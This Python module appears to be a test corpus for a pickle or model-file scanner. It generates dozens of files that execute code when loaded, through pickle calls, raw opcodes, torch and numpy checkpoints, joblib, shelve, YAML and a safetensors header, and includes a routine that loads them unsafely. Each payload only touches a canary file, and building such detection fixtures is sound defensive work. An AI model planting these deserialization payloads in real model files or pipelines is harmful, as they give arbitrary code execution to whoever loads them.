"""Files that run code when they are unpickled: the calls, the operations and the containers that are known for it.

Each is a function from the path of a canary to the content of a file. Whoever unpickles the content creates the canary.
"""

import contextlib
import dbm.dumb
import gzip
import io
import marshal
import operator
import pickle
import shelve
import struct
import subprocess
import tempfile
import zipfile
import zlib
from collections.abc import Callable
from importlib import import_module
from pathlib import Path
from typing import Any

import numpy as np
import torch

Content = Callable[[Path], bytes]

CALLS: dict[str, Content] = {}
"""One pickle for each function that can be made to run code."""
OPERATIONS: dict[str, Content] = {}
"""Ways to call a function without the usual operations of a pickle."""
CONTAINERS: dict[str, Content] = {}
"""Formats that hold a pickle, or code."""


class _Call:
    """Pickled as a call of a function."""

    def __init__(self, function: Any, *arguments: Any) -> None:
        self._call = function, arguments

    def __reduce__(self) -> Any:
        return self._call


def _touch(canary: Path) -> str:
    return f"touch '{canary}'"


def _python(canary: Path) -> str:
    return f"open({str(canary)!r}, 'w').close()"


def _named(module: str, name: str) -> Any:
    return getattr(import_module(module), name)


def system(canary: Path, protocol: int = 2) -> bytes:
    """The best known of all."""
    return pickle.dumps(_Call(_named("os", "system"), _touch(canary)), protocol=protocol)


# From the name of a module and a function to its arguments.
_ARGUMENTS: dict[tuple[str, str], Callable[[Path], tuple[Any, ...]]] = {
    ("subprocess", "call"): lambda canary: (["touch", str(canary)],),
    ("subprocess", "check_output"): lambda canary: (["touch", str(canary)],),
    ("subprocess", "run"): lambda canary: (["touch", str(canary)],),
    ("subprocess", "getoutput"): lambda canary: (_touch(canary),),
    ("builtins", "exec"): lambda canary: (_python(canary),),
    ("builtins", "eval"): lambda canary: (_python(canary),),
    ("io", "open"): lambda canary: (str(canary), "w"),
    ("io", "FileIO"): lambda canary: (str(canary), "w"),
    ("os", "mkdir"): lambda canary: (str(canary),),
    ("os", "mkfifo"): lambda canary: (str(canary),),
    ("os", "symlink"): lambda canary: ("nowhere", str(canary)),
    ("os", "spawnlp"): lambda canary: (0, "touch", "touch", str(canary)),
    ("timeit", "timeit"): lambda canary: (_python(canary), "pass", _named("time", "perf_counter"), 1),
    ("cProfile", "run"): lambda canary: (_python(canary), str(canary)),
    ("profile", "run"): lambda canary: (_python(canary), str(canary)),
    ("logging", "FileHandler"): lambda canary: (str(canary),),
    ("sqlite3", "connect"): lambda canary: (str(canary),),
    ("zipfile", "ZipFile"): lambda canary: (str(canary), "w"),
    ("tempfile", "mkdtemp"): lambda canary: ("", canary.name, str(canary.parent)),
    ("shutil", "copyfile"): lambda canary: ("/dev/null", str(canary)),
    ("numpy", "save"): lambda canary: (str(canary), 1),
    ("torch", "save"): lambda canary: (1, str(canary)),
}


def _calling(module: str, name: str, arguments: Callable[[Path], tuple[Any, ...]]) -> Content:
    return lambda canary: pickle.dumps(_Call(_named(module, name), *arguments(canary)), protocol=2)


CALLS["os.system"] = system
CALLS |= {f"{module}.{name}": _calling(module, name, arguments) for (module, name), arguments in _ARGUMENTS.items()}


def _method_of_a_module(canary: Path) -> bytes:
    caller = operator.methodcaller("system", _touch(canary))
    return pickle.dumps(_Call(caller, _Call(import_module, "os")), protocol=2)


def _getattr_of_a_module(canary: Path) -> bytes:
    module = b"c__builtin__\n__import__\n" + _text("os") + b"\x85R"
    return b"\x80\x02c__builtin__\ngetattr\n" + module + _text("system") + b"\x86R" + _text(_touch(canary)) + b"\x85R."


def _function_of_marshalled_code(canary: Path) -> bytes:
    code = marshal.dumps(compile(_python(canary), "code", "exec"))
    loaded = b"cmarshal\nloads\nB" + struct.pack("<I", len(code)) + code + b"\x85R"
    builtins = b"cbuiltins\n__import__\n" + _text("builtins") + b"\x85R"
    function = b"ctypes\nFunctionType\n" + loaded + b"}" + _text("__builtins__") + builtins + b"s\x86R"
    return b"\x80\x03coperator\ncall\n" + function + b"\x85R."


CALLS["operator.methodcaller of a module"] = _method_of_a_module
CALLS["getattr of an imported module"] = _getattr_of_a_module
CALLS["types.FunctionType of marshalled code"] = _function_of_marshalled_code


def _text(value: str) -> bytes:
    encoded = value.encode()
    return b"X" + struct.pack("<I", len(encoded)) + encoded


def _operation(make: Content) -> Content:
    OPERATIONS[make.__name__] = make
    return make


for _number in range(6):
    OPERATIONS[f"protocol_{_number}"] = lambda canary, _number=_number: system(canary, _number)  # type: ignore[misc]


@_operation
def instance(canary: Path) -> bytes:
    return b"(S'" + _touch(canary).replace("'", "").encode() + b"'\nios\nsystem\n."


@_operation
def object_of_a_class(canary: Path) -> bytes:
    return b"(cos\nsystem\nS'" + _touch(canary).replace("'", "").encode() + b"'\no."


@_operation
def new_object(canary: Path) -> bytes:
    values = b"(" + _text(str(canary)) + _text("u1") + _text("w+") + b"K\0K\1t"
    return b"\x80\x02cnumpy\nmemmap\n" + values + b"\x81."


@_operation
def new_object_with_keywords(canary: Path) -> bytes:
    keywords = b"}(" + _text("mode") + _text("w+") + _text("shape") + b"K\1u"
    return b"\x80\x04cnumpy\nmemmap\n" + _text(str(canary)) + b"\x85" + keywords + b"\x92."


@_operation
def name_from_the_stack(canary: Path) -> bytes:
    return b"\x80\x04\x8c\x02os\x8c\x06system\x93" + _text(_touch(canary)) + b"\x85R."


@_operation
def name_from_the_memo(canary: Path) -> bytes:
    return b"\x80\x04\x8c\x02os\x94\x8c\x06system\x940h\0h\1\x93" + _text(_touch(canary)) + b"\x85R."


@_operation
def without_an_end(canary: Path) -> bytes:
    return system(canary)[:-1]


@_operation
def with_damage_after_the_call(canary: Path) -> bytes:
    return system(canary)[:-1] + b"\xff\xff\xff"


@_operation
def behind_other_values(canary: Path) -> bytes:
    return pickle.dumps({"state": {"step": [1.0] * 1000, "exp_avg": _Call(_named("os", "system"), _touch(canary))}})


def _container(make: Content) -> Content:
    CONTAINERS[make.__name__] = make
    return make


def _torch_zip(canary: Path, **files: bytes) -> bytes:
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w") as archive:
        archive.writestr("archive/data.pkl", system(canary))
        archive.writestr("archive/version", b"3\n")
        archive.writestr("archive/byteorder", b"little")
        for name, content in files.items():
            archive.writestr(f"archive/{name}", content)
    return written.getvalue()


@_container
def torch_checkpoint(canary: Path) -> bytes:
    return _torch_zip(canary)


@_container
def torch_checkpoint_of_an_optimizer(canary: Path) -> bytes:
    written = io.BytesIO()
    torch.save({"state": {}, "param_groups": [_Call(_named("os", "system"), _touch(canary))]}, written)
    return written.getvalue()


@_container
def torch_rng_state(canary: Path) -> bytes:
    written = io.BytesIO()
    torch.save([torch.get_rng_state(), _Call(_named("os", "system"), _touch(canary))], written)
    return written.getvalue()


@_container
def legacy_torch_checkpoint(canary: Path) -> bytes:
    written = io.BytesIO()
    torch.save(_Call(_named("os", "system"), _touch(canary)), written, _use_new_zipfile_serialization=False)
    return written.getvalue()


@_container
def distributed_checkpoint_metadata(canary: Path) -> bytes:
    return pickle.dumps({"state_dict_metadata": {}, "planner_data": _Call(_named("os", "system"), _touch(canary))})


@_container
def torchscript(canary: Path) -> bytes:
    return _torch_zip(canary, **{"constants.pkl": system(canary), "code/__torch__.py": _python(canary).encode()})


@_container
def npy_of_objects(canary: Path) -> bytes:
    written = io.BytesIO()
    array = np.empty(1, dtype=object)
    array[0] = _Call(_named("os", "system"), _touch(canary))
    np.save(written, array, allow_pickle=True)
    return written.getvalue()


@_container
def npz_of_objects(canary: Path) -> bytes:
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("mu.npy", npy_of_objects(canary))
    return written.getvalue()


@_container
def joblib_file(canary: Path) -> bytes:
    return zlib.compress(system(canary))


@_container
def pickle_in_gzip(canary: Path) -> bytes:
    return gzip.compress(system(canary))


@_container
def shelf(canary: Path) -> bytes:
    with tempfile.TemporaryDirectory() as folder:
        opened: Any
        with shelve.Shelf(dbm.dumb.open(f"{folder}/shelf", "n")) as opened:  # type: ignore[arg-type, var-annotated, unused-ignore]
            opened["a"] = _Call(_named("os", "system"), _touch(canary))
        return Path(folder, "shelf.dat").read_bytes()


@_container
def marshalled_code(canary: Path) -> bytes:
    return marshal.dumps(compile(_python(canary), "code", "exec"))


@_container
def python_source(canary: Path) -> bytes:
    return f"import os\n{_python(canary)}\n".encode()


@_container
def shell_script(canary: Path) -> bytes:
    return f"#!/bin/sh\n{_touch(canary)}\n".encode()


@_container
def yaml_with_a_call(canary: Path) -> bytes:
    return f'!!python/object/apply:os.system ["touch {canary}"]\n'.encode()


@_container
def safetensors_and_a_pickle(canary: Path) -> bytes:
    header = b'{"a":{"dtype":"U8","shape":[1],"data_offsets":[0,1]}}'
    return struct.pack("<Q", len(header)) + header + b"\0" + system(canary)


ALL: dict[str, Content] = {**CALLS, **OPERATIONS, **CONTAINERS}
FOR_OTHER_READERS = frozenset({"torchscript", "safetensors_and_a_pickle"})
"""Those that none of the careless readers below executes: they take one that knows where the code begins."""


def read_carelessly(content: bytes) -> None:
    """What a careless reader does with such a file. To be called in a process of its own."""
    for read in (_unpickle, _load_with_torch, _load_with_numpy, _unpack_and_unpickle, _run):
        # The next reader may be the one that it was made for.
        with contextlib.suppress(BaseException):
            read(content)


def _unpickle(content: bytes) -> None:
    pickle.loads(content)  # noqa: S301 - carelessness is what is shown here


def _load_with_torch(content: bytes) -> None:
    torch.load(io.BytesIO(content), weights_only=False)


def _load_with_numpy(content: bytes) -> None:
    loaded = np.load(io.BytesIO(content), allow_pickle=True)
    if not isinstance(loaded, np.ndarray):
        [loaded[name] for name in loaded.files]


def _unpack_and_unpickle(content: bytes) -> None:
    pickle.loads(zlib.decompress(content, wbits=47))  # noqa: S301


def _run(content: bytes) -> None:
    if content.startswith(b"#!"):
        subprocess.run(["sh"], input=content, check=False)
    elif content.startswith((b"import", b"!!")):
        import yaml

        yaml.unsafe_load(content) if content.startswith(b"!!") else exec(content)  # noqa: S102
    else:
        exec(marshal.loads(content))  # noqa: S102, S302
